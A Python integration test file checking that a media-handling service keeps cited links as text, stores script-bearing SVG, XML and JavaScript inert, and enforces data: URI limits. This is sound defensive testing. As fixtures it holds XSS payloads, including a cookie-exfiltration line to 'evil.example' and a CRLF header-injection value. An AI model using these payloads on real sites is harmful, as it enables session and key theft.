"""What a provider's answer may put in the user's assets (issue 24, items 2, 3 and 9), end
to end: a worker's real ``CallRunner`` (and the reconciler, and the webhook receiver)
against the simulator answering over HTTP in Replicate's and KIE's recorded shapes, jobs
and reservations written by plain SQL as a host writes them, and what the host then sees
read back by SQL (``jobs``, ``usage_logs``, ``assets``, ``call_events``) and from the
media folder.

- **Text that mentions a link is text.** Only a URL on the kind's media hosts (or its
  configured endpoint, or the operator's allow-list) and a ``data:`` URI is a file; a
  caption, a JSON answer or a language model's tokens citing a web page complete with the
  link kept in the text.
- **No active content is stored as the user's asset.** A script-bearing type (SVG, XML,
  JavaScript, or a Content-Type that is a list ending in ``text/html``) is stored inert:
  the bytes as they came, as ``application/octet-stream`` under a ``.bin`` key.
- **``data:`` URIs within their limits.** Line-wrapped or percent-encoded base64 under the
  limit is stored; a URI longer than any payload under the limit could be, or with a
  header longer than a media type, is refused before it is decoded; a declared type that
  is not a ``type/subtype`` token (CR/LF, a space) is refused. A refusal is typed
  (``media_unusable``), refunds, and records no success.
"""

from __future__ import annotations

import base64
import urllib.parse
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import msgspec
import pytest
from aiohttp import web

from callwarden.calls.finalize import Finalizer
from callwarden.database.db import Conn, Pool
from callwarden.database.write import append, load
from callwarden.events.types import CallStarted, TaskCreated
from callwarden.providers.registry import poll_task
from callwarden.providers.simulator.core import RunningSimulator
from callwarden.providers.simulator.media import fake_media
from callwarden.providers.simulator.model import Script
from callwarden.providers.storage import LocalFolderStore
from callwarden.service.webhooks import Receiver, WebhookConfig
from tests.integration.conftest import MakeReconciler, MakeRunner
from tests.support.rows import host_job, seen_by_host

AUTH = {"Authorization": "Bearer sim-key"}
LINK = "https://en.wikipedia.org/wiki/Cat"
# 0xFF bytes encode as "/" in base64: percent-encoded, each one is three characters.
PNG = b"\x89PNG\r\n\x1a\n" + b"\xff" * 600
B64 = base64.b64encode(PNG).decode()


async def assets(conn: Conn, job: uuid.UUID) -> list[dict[str, Any]]:
    rows = await (await conn.execute(
        "SELECT storage_key, content_type, size_bytes FROM assets WHERE job_id = %s "
        "ORDER BY storage_key", (job,))).fetchall()
    return [dict(r) for r in rows]


async def event_types(conn: Conn, job: uuid.UUID) -> list[str]:
    rows = await (await conn.execute(
        "SELECT type FROM callwarden.call_events WHERE job_id = %s ORDER BY "
        "seq", (job,))).fetchall()
    return [r["type"] for r in rows]


async def failure(conn: Conn, job: uuid.UUID) -> tuple[str, str]:
    """The code and error of the job's last ``UpstreamFailed``."""
    row = await (await conn.execute(
        "SELECT payload FROM callwarden.call_events WHERE job_id = %s AND type = 'UpstreamFailed' "
        "ORDER BY seq DESC LIMIT 1", (job,))).fetchone()
    assert row is not None, await event_types(conn, job)
    return row["payload"]["code"], row["payload"]["error"]


def replicate(output: Any = None, **script: Any) -> dict[str, Any]:
    """A prediction that succeeds on its second poll with ``output`` (else minted media)."""
    sim = {"steps": [{"phase": "running", "polls": 1}], "end": "succeeded", **script}
    if output is not None:
        sim["output"] = output
    return {"version": "owner/model", "input": {"prompt": "hi", "_sim": sim}}


def kie(**script: Any) -> dict[str, Any]:
    return {"model": "nano-banana-pro", "input": {"prompt": "x", "_sim": {
        "steps": [], "end": "succeeded", **script}}}


def stored_bytes(media: Path, key: str) -> bytes:
    """The file on disk: a folder store keeps ``media/<job>/<n>.<ext>`` at ``<job>/<n>.<ext>``."""
    prefix, _, rest = key.partition("/")
    assert prefix == "media", key
    return (media / rest).read_bytes()


# -- item 2: text that mentions a link is text --------------------------------------------

@pytest.mark.parametrize(("output", "text"), [
    (LINK, LINK),  # a model that answers with a link
    ({"answer": "a cat", "source": LINK, "model_page": "https://replicate.com/owner/model"},
     msgspec.json.encode({"answer": "a cat", "source": LINK,
                          "model_page": "https://replicate.com/owner/model"}).decode()),
    (["See ", LINK, " and http://example.com/cats", "."],  # a language model's tokens
     f"See {LINK} and http://example.com/cats."),
], ids=["url-string", "json-answer", "token-list"])
async def test_replicate_text_citing_a_web_page_completes_with_the_link_kept(
        conn: Conn, make_runner: MakeRunner, sim: RunningSimulator, output: Any,
        text: str) -> None:
    job = await host_job(conn)
    out = await make_runner().run(job, "replicate-prediction", replicate(output))
    assert out.result == "completed", out
    row = await seen_by_host(conn, job)
    assert (row["status"], row["credits"], row["assets"]) == ("completed", "committed", 0)
    assert row["output_data"]["text"] == text
    assert "UpstreamFailed" not in await event_types(conn, job)


async def test_a_file_on_the_media_host_is_stored_and_the_cited_link_kept(
        conn: Conn, make_runner: MakeRunner, sim: RunningSimulator, tmp_path: Path) -> None:
    image = sim.sim.media.put(fake_media("image/png", "cat"), "image/png", None)
    job = await host_job(conn)
    out = await make_runner().run(job, "replicate-prediction",
                                  replicate({"image": image, "source": LINK}))
    assert out.result == "completed", out
    row = await seen_by_host(conn, job)
    assert (row["credits"], row["assets"]) == ("committed", 1)
    assert msgspec.json.decode(row["output_data"]["text"]) == {
        "image": {"media": 0}, "source": LINK}
    [stored] = await assets(conn, job)
    assert stored_bytes(tmp_path / "media", stored["storage_key"]) == fake_media(
        "image/png", "cat")


async def dead_workers_call(conn: Conn, job: uuid.UUID, kind: str, task: str) -> None:
    """What a worker that created ``task`` and then died left: CallStarted, TaskCreated."""
    at = datetime.now(UTC) - timedelta(hours=1)
    p = (await append(conn, job, await load(conn, job),
                      CallStarted(at=at, actor="worker:dead", kind=kind))).projection
    await append(conn, job, p, TaskCreated(at=at, actor="worker:dead", task_id=task))


async def prediction(http: aiohttp.ClientSession, sim: RunningSimulator,
                     request: dict[str, Any]) -> str:
    async with http.post(sim.url("replicate", "/v1/predictions"), json=request,
                         headers=AUTH) as resp:
        assert resp.status == 201, await resp.text()
        return str((await resp.json())["id"])


async def test_the_reconciler_keeps_a_recovered_answers_link_as_text(
        conn: Conn, make_reconciler: MakeReconciler, sim: RunningSimulator,
        http: aiohttp.ClientSession) -> None:
    job = await host_job(conn)
    task = await prediction(http, sim, replicate({"answer": "a cat", "source": LINK},
                                                 steps=[]))
    await dead_workers_call(conn, job, "replicate-prediction", task)
    await make_reconciler(thresholds_s={"replicate-prediction": 60.0}).reconcile_once()
    row = await seen_by_host(conn, job)
    assert (row["call_state"], row["credits"], row["assets"]) == (
        "completed", "committed", 0)
    assert msgspec.json.decode(row["output_data"]["text"])["source"] == LINK


@pytest.fixture
async def receiver(pool: Pool, sim: RunningSimulator, http: aiohttp.ClientSession,
                   tmp_path: Path) -> AsyncIterator[tuple[str, Receiver]]:
    """The webhook receiver alone on 127.0.0.1, checking the simulator's signatures on
    the simulator's clock."""
    finalizer = Finalizer(pool, LocalFolderStore(tmp_path / "media"), sim.settings,
                          owner="webhook:test", clock=lambda: datetime.now(UTC))

    async def poll(kind: str, task_id: str, created_at: float | None) -> Any:
        return await poll_task(kind, task_id, http, sim.settings, created_at=created_at)

    config = WebhookConfig(secrets={"replicate": sim.sim.webhook_secrets["replicate"]})
    got = Receiver(pool, finalizer, config, clock=sim.sim.clock.now,
                   now=lambda: datetime.now(UTC), poll=poll)
    app = web.Application()
    app.add_routes(got.routes())
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}", got
    finally:
        await runner.cleanup()


async def test_a_webhook_delivering_an_answer_that_cites_a_link_completes(
        conn: Conn, sim: RunningSimulator, http: aiohttp.ClientSession,
        receiver: tuple[str, Receiver]) -> None:
    url, got = receiver
    job = await host_job(conn)
    request = replicate({"answer": "a cat", "source": LINK},
                        steps=[{"phase": "running", "seconds": 30}])
    task = await prediction(http, sim, {**request, "webhook": f"{url}/webhooks/replicate",
                                        "webhook_events_filter": ["completed"]})
    p = (await append(conn, job, await load(conn, job), CallStarted(
        at=datetime.now(UTC), actor="worker:test", kind="replicate-prediction"))).projection
    await append(conn, job, p, TaskCreated(at=datetime.now(UTC), actor="worker:test",
                                           task_id=task))
    sim.sim.clock.advance(60)
    [delivered] = await sim.sim.webhooks.wait_for(1, outcome="delivered")
    assert delivered.status == 200
    assert await got.drain() == 0
    row = await seen_by_host(conn, job)
    assert (row["call_state"], row["credits"], row["assets"]) == (
        "completed", "committed", 0)
    assert msgspec.json.decode(row["output_data"]["text"])["source"] == LINK


# -- item 3: no active content is stored as the user's asset --------------------------------

SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
       "<script>fetch('/api/keys').then(r => r.text()).then(alert)</script></svg>")
XHTML = ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
         "<script>alert(document.cookie)</script></body></html>")
SCRIPT = "new Image().src = 'https://evil.example/?' + document.cookie;"
PAGE = "<!doctype html><script>alert(document.cookie)</script>"


@pytest.mark.parametrize(("kind", "content_type", "body"), [
    ("replicate-prediction", "image/svg+xml", SVG),
    ("replicate-prediction", "text/xml", XHTML),
    ("replicate-prediction", "application/xml", XHTML),
    ("replicate-prediction", "text/javascript", SCRIPT),
    ("replicate-prediction", "image/png, text/html", PAGE),  # browsers take the last one
    ("kie-standard", "image/svg+xml", SVG),  # passes image/*
], ids=["svg", "xhtml-as-text-xml", "xhtml-as-application-xml", "javascript",
        "type-list-ending-in-html", "kie-svg"])
async def test_script_bearing_media_is_stored_inert_as_a_download(
        conn: Conn, make_runner: MakeRunner, tmp_path: Path, kind: str,
        content_type: str, body: str) -> None:
    served = {"media_served": {"content_type": content_type, "body": body}}
    request = replicate(**served) if kind.startswith("replicate") else kie(**served)
    job = await host_job(conn)
    out = await make_runner().run(job, kind, request)
    assert out.result == "completed", out
    assert (await seen_by_host(conn, job))["credits"] == "committed"
    [stored] = await assets(conn, job)
    assert (stored["content_type"], Path(stored["storage_key"]).suffix) == (
        "application/octet-stream", ".bin")
    assert stored_bytes(tmp_path / "media", stored["storage_key"]) == body.encode()
    head = await LocalFolderStore(tmp_path / "media").head(stored["storage_key"])
    assert head.content_type == "application/octet-stream"


async def test_a_script_in_a_data_uri_is_stored_inert_too(
        conn: Conn, make_runner: MakeRunner, tmp_path: Path) -> None:
    uri = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
    job = await host_job(conn)
    assert (await make_runner().run(job, "replicate-prediction",
                                    replicate([uri]))).result == "completed"
    [stored] = await assets(conn, job)
    assert (stored["content_type"], Path(stored["storage_key"]).suffix) == (
        "application/octet-stream", ".bin")


# -- item 9: data: URIs within their limits -------------------------------------------------

def wrapped(b64: str, width: int = 76) -> str:
    return "\r\n".join(b64[i:i + width] for i in range(0, len(b64), width))


@pytest.mark.parametrize("uri", [
    "data:image/png;base64," + wrapped(B64),
    "data:image/png;base64," + urllib.parse.quote(B64, safe=""),
    "data:image/png;base64," + urllib.parse.quote(wrapped(B64), safe=""),
], ids=["line-wrapped", "percent-encoded", "both"])
async def test_an_encoded_data_uri_under_the_limit_is_stored(
        conn: Conn, make_runner: MakeRunner, tmp_path: Path, uri: str) -> None:
    job = await host_job(conn)
    out = await make_runner(media_max_bytes=len(PNG)).run(
        job, "replicate-prediction", replicate([uri]))
    assert out.result == "completed", out
    [stored] = await assets(conn, job)
    assert (stored["content_type"], stored["size_bytes"]) == ("image/png", len(PNG))
    assert stored_bytes(tmp_path / "media", stored["storage_key"]) == PNG


async def refused_before_success(conn: Conn, job: uuid.UUID) -> str:
    """The call failed ``media_unusable``, refunded, with no asset and no success
    recorded: the error."""
    row = await seen_by_host(conn, job)
    assert (row["status"], row["credits"], row["assets"]) == ("failed", "refunded", 0)
    assert "UpstreamSucceeded" not in await event_types(conn, job)
    code, error = await failure(conn, job)
    assert code == "media_unusable"
    return error


@pytest.mark.parametrize("declared", [
    "image/png\r\nX-Injected: 1", "image/svg+xml text/html", "image/png\u00a0",
], ids=["crlf", "space", "non-ascii"])
async def test_a_declared_type_that_is_not_a_token_makes_no_file(
        conn: Conn, make_runner: MakeRunner, declared: str) -> None:
    """A string that only looks like a data: URI (its header is no media type) is not a
    file: no type of its choosing is ever stored or served; the call completes with the
    string kept as text (review of 24.2: a model's "data: none found" was refunded)."""
    job = await host_job(conn)
    uri = f"data:{declared};base64,{B64}"
    out = await make_runner().run(job, "replicate-prediction", replicate([uri]))
    assert out.result == "completed", out
    row = await seen_by_host(conn, job)
    assert (row["credits"], row["assets"]) == ("committed", 0)
    assert row["output_data"]["text"] == uri


@pytest.mark.parametrize("text", ["data: none found", "DATA: see the table below",
                                  "data:,"[:5] + " the answer is 42"])
async def test_text_that_starts_with_data_is_text(conn: Conn, make_runner: MakeRunner,
                                                  text: str) -> None:
    job = await host_job(conn)
    out = await make_runner().run(job, "replicate-prediction", replicate(text))
    assert out.result == "completed", out
    row = await seen_by_host(conn, job)
    assert (row["credits"], row["assets"], row["output_data"]["text"]) == (
        "committed", 0, text)


@pytest.mark.parametrize(("uri", "max_bytes", "reason"), [
    # 6 MB of spaced pairs: longer than any payload of at most 1 MiB could be
    ("data:image/png;base64," + " ".join(["AA"] * 2_000_000), 2**20, "characters"),
], ids=["spaced-payload"])
async def test_a_data_uri_past_its_limits_is_refused_before_it_is_decoded(
        conn: Conn, make_runner: MakeRunner, sim: RunningSimulator, uri: str,
        max_bytes: int, reason: str) -> None:
    # queued, not sent: a request that large is over the simulator's body limit
    script = replicate([uri])["input"].pop("_sim")
    sim.sim.queue_script("replicate", msgspec.convert(script, Script))
    job = await host_job(conn)
    out = await make_runner(media_max_bytes=max_bytes).run(
        job, "replicate-prediction", {"version": "owner/model", "input": {"prompt": "hi"}})
    assert out.result == "failed", out
    assert reason in await refused_before_success(conn, job)


@pytest.mark.parametrize("request_of", [
    lambda: replicate(media_served={"content_type": "image/png", "body": ""}),
    lambda: kie(media_served={"content_type": "image/png", "body": ""}),
    lambda: replicate(["data:image/png;base64,"]),
], ids=["replicate-empty-200", "kie-empty-200", "empty-data-uri"])
async def test_an_empty_result_is_never_stored_or_charged(
        conn: Conn, make_runner: MakeRunner, request_of: Any) -> None:
    """A 200 with no bytes (or an empty data: URI) is no result (review of issue 24):
    the call fails and is refunded, with no asset, instead of committing the credits for a
    0-byte file."""
    request = request_of()
    kind = "replicate-prediction" if "version" in request else "kie-standard"
    job = await host_job(conn)
    out = await make_runner().run(job, kind, request)
    assert out.result == "failed", out
    row = await seen_by_host(conn, job)
    assert (row["credits"], row["assets"]) == ("refunded", 0)
    assert "empty" in (row["error_message"] or "")
